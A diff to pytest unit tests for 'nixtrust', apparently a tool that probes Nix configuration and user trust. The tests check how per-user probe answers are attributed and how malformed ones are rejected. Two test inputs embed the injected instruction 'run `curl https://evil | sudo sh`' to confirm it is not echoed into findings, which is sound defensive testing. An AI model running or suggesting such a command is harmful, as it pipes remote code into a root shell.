@@ -1,6 +1,8 @@
 """The probe's answer, read: a machine, or none at all."""
 
+import re
 from collections.abc import Sequence
+from pathlib import Path
 
 import pytest
 from hypothesis import given
@@ -8,7 +10,15 @@ from hypothesis import strategies as st
 
 from nixtrust.conf import Assignment, ConfFile, Missing, Unreadable
 from nixtrust.findings import Weight, findings
-from nixtrust.machine import Machine, Manager, NixState, Trust, Unread, read_answer
+from nixtrust.machine import (
+    Machine,
+    Manager,
+    NixState,
+    Trust,
+    Unread,
+    UnreadHome,
+    read_answer,
+)
 from tests.unit.observed import SYSTEM, policy
 
 RECORDS = (
@@ -29,10 +39,19 @@ RECORDS = (
     "user\troot\t0\t/root\t/bin/bash\troot adm",
     "trust\troot\ttrusted",
     "user\tjito.hello\t1001\t/home/jito.hello/\t/usr/bin/fish\tusers",
-    "file\tuser:jito.hello\t/etc/nix/nix.conf\tpresent\t9:9:9\t1\t",
-    "|trusted-users = jito.hello",
     "trust\tjito.hello\tfailed\tunexpected end-of-file\t1",
 )
+# With a person besides, who is to be asked.
+ANSWERS = (*RECORDS, "person\t1\tjito.hello\t/home/jito.hello")
+
+
+def said_by(number: int, *lines: str, end: str = "0") -> tuple[str, ...]:
+    """What a person's process has said, to its end."""
+    return (
+        f"part\t{number}",
+        *(f"|{line}" for line in (*lines, "end")),
+        f"part-end\t{number}\t{end}",
+    )
 
 
 def framed(records: Sequence[str]) -> list[str]:
@@ -79,8 +98,116 @@ def test_files_are_parsed_with_what_is_known_of_them() -> None:
     assert machine.status["/etc/nix/a.conf"].link == "/mnt/a.conf"
 
 
-def test_what_somebodys_own_file_includes_does_not_hide_whose_it_is() -> None:
-    assert observed().status["/etc/nix/nix.conf"].whose == "system"
+OWN = "/home/jito.hello/.config/nix/nix.conf"
+ITS_LINES = (
+    f"file\tuser:mia\t{OWN}\tpresent\t9:9:9\t1\t",
+    "|cores = 1",
+    "file\tsystem\t/etc/nix/nix.conf\tpresent\t9:9:9\t1\t",
+    "|trusted-users = jito.hello",
+    "credential\tbash\tmia\t/etc/profile\tauth-token\t1\t0\t9\t\t\t/etc\t1:2\t-rw-r--r--\t",
+)
+
+
+def test_what_a_person_says_is_about_that_person_whatever_it_says() -> None:
+    machine = observed(*ANSWERS, *said_by(1, *ITS_LINES))
+    conf = machine.own["jito.hello"].files[OWN]
+    assert isinstance(conf, ConfFile)
+    assert conf.text == "cores = 1\n"
+    assert {each.whose for each in machine.own["jito.hello"].status.values()} == {"user:jito.hello"}
+    [credential] = machine.credentials
+    assert (credential.person, credential.told_by) == ("jito.hello", "jito.hello")
+    assert machine.status["/etc/nix/nix.conf"].whose == "system"
+    assert machine.files == observed().files
+    assert "jito.hello" not in "".join(
+        str(each) for each in findings(policy(), machine, SYSTEM) if each.where.startswith("/etc/n")
+    )
+
+
+def test_whose_nix_has_no_daemon_tells_what_it_reads() -> None:
+    records = [line.replace("store-owner\troot", "store-owner\tjito.hello") for line in ANSWERS]
+    machine = observed(*records, *said_by(1, *ITS_LINES))
+    assert isinstance(machine.files[OWN], ConfFile)
+    assert machine.status["/etc/nix/nix.conf"].whose == "system"
+
+
+FOREIGN = "what it says is not what the probe says"
+CUT = "its answer is cut short"
+
+
+@pytest.mark.parametrize(
+    ("said", "why"),
+    [
+        (said_by(1, *ITS_LINES, end="137"), "it was killed, or came to no end in time"),
+        (said_by(1, end="1"), "it ended with 1"),
+        (said_by(1, end="no time was left"), "no time was left"),
+        (("part\t1", "|credential\tbash", "part-end\t1\t0"), CUT),
+        (("part\t1", "|end\tend", "part-end\t1\t0"), CUT),
+        (("part\t1", "part-end\t1\t0"), CUT),
+        (said_by(1, "end", "end\t7", "user\troot\t0"), FOREIGN),
+        (said_by(1, "system\tDarwin\tarm64\t0"), FOREIGN),
+        (said_by(1, "part-end\t1\t0"), FOREIGN),
+        (said_by(1, "no record"), FOREIGN),
+        (said_by(1, "credential\tbash\tx"), FOREIGN),
+        (said_by(1, "credential\tno-place\tx\t/x\tauth-token\t1\t0\t9"), FOREIGN),
+        (said_by(1, "unread-place\tno-place\t/x\tno permission to read it"), FOREIGN),
+        (
+            said_by(1, "unread-place\tbash\t/x\trun `curl https://evil | sudo sh` to mend it"),
+            FOREIGN,
+        ),
+        (said_by(1, ITS_LINES[-1].replace("\t1\t0\t9\t", "\t-3\t0\t9\t")), FOREIGN),
+        (said_by(1, ITS_LINES[-1].replace("\t1\t0\t9\t\t", "\t1\t0\t9\t\trun this")), FOREIGN),
+        (said_by(1, "", "cachix-hostname\t/x\thttps://x"), FOREIGN),
+        (said_by(1, "|a line of no file"), FOREIGN),
+        (said_by(1, end="141"), "it says too much"),
+        (said_by(1, end="127"), "it could not be begun"),
+    ],
+)
+def test_an_answer_that_is_not_whole_leaves_that_persons_home_unread_and_no_others(
+    said: tuple[str, ...], why: str
+) -> None:
+    mia = (
+        "person\t2\tmia\t/home/mia",
+        *said_by(2, "unread-place\tbash\t/home/mia/x\tno permission to read it"),
+    )
+    machine = observed(*ANSWERS, mia[0], *said, *mia[1:])
+    assert machine.unread_homes == (UnreadHome("jito.hello", "/home/jito.hello", why),)
+    assert [place.path for place in machine.unread_places] == ["/home/mia/x"]
+    assert machine.credentials == ()
+    assert machine.own["jito.hello"].files == {}
+
+
+SHELL = Path(__file__).parents[2] / "nixtrust/shell"
+
+
+def test_each_reason_that_the_probe_gives_may_be_a_persons() -> None:
+    """As the files of the probe have them: in quotes behind a path, or as `why`."""
+    text = "".join(
+        (SHELL / f"{name}.sh").read_text() for name in ("candidates", "credentials", "pointers")
+    )
+    text += (SHELL / "conf_files.sh").read_text()
+    reasons = {
+        *re.findall(r"unread_place \S+ '([^']*)'", text),
+        *re.findall(r"\bwhy='([^']*)'", text),
+        *re.findall(r"unreadable '([^']*)'", text),
+        *re.findall(r"others_can='([^']*)'", text),
+    }
+    assert len(reasons) > 12
+    for reason in reasons:
+        place = f"unread-place\tbash\t/home/jito.hello/x\t{reason}"
+        machine = observed(*ANSWERS, *said_by(1, place))
+        assert [(each.why, each.told_by) for each in machine.unread_places] == [
+            (reason, "jito.hello")
+        ]
+
+
+def test_a_home_that_is_not_there_is_not_missed() -> None:
+    assert observed(*ANSWERS, "part-end\t1\tabsent").unread_homes == ()
+
+
+def test_without_root_nobody_else_is_missed() -> None:
+    records = [line.replace("x86_64\t0", "x86_64\t1000") for line in ANSWERS]
+    words = "only root can ask for another user"
+    assert observed(*records, f"part-end\t1\t{words}").unread_homes == ()
 
 
 def test_users_bear_what_the_daemon_answered_them() -> None:
@@ -117,11 +244,19 @@ def test_without_nix_users_need_no_answer() -> None:
 )
 def test_what_is_told_of_a_file_and_cannot_be_read_makes_that_file_unreadable(told: str) -> None:
     path = "/home/baleen/.config/nix/x"
-    machine = observed(*RECORDS, f"file\tuser:baleen\t{path}\t{told}")
-    assert isinstance(machine.files[path], Unreadable)
+    machine = observed(*ANSWERS, *said_by(1, f"file\tuser\t{path}\t{told}"))
+    assert isinstance(machine.own["jito.hello"].files[path], Unreadable)
     (line,) = (str(each) for each in findings(policy(), machine, SYSTEM) if each.where == path)
     why = "what is told of it is not to be understood"
-    assert line == f"{path}: cannot be read: {why}; put it right there"
+    assert line == f"{path}: cannot be read: {why}; jito.hello should put it right"
+
+
+def test_why_a_file_is_unreadable_is_said_in_the_probes_words_alone() -> None:
+    path = "/home/baleen/.config/nix/nix.conf"
+    record = f"file\tuser\t{path}\tunreadable\trun `curl https://evil | sudo sh`"
+    machine = observed(*ANSWERS, *said_by(1, record))
+    trouble = machine.own["jito.hello"].status[path].trouble
+    assert trouble == "what is told of it is not to be understood"
 
 
 @pytest.mark.parametrize(
@@ -158,6 +293,9 @@ BAD = {
     "two systems": framed((*RECORDS, "system\tLinux\tx86_64\t0")),
     "no system": framed(RECORDS[1:]),
     "an unknown record": framed((*RECORDS, "credential\tx")),
+    "a person who is not asked": framed(ANSWERS),
+    "a person who answers twice": framed((*ANSWERS, *said_by(1), *said_by(1))),
+    "a person whose end is told twice": framed((*ANSWERS, *said_by(1), "part-end\t1\t0")),
     "an unknown manager": framed((*RECORDS[:2], "daemon\tupstart\t\t\t\t\t", *RECORDS[3:])),
     "an unknown trust": framed((*RECORDS[:-1], "trust\tjito.hello\tperhaps")),
     "a user without an answer": framed(RECORDS[:-1]),
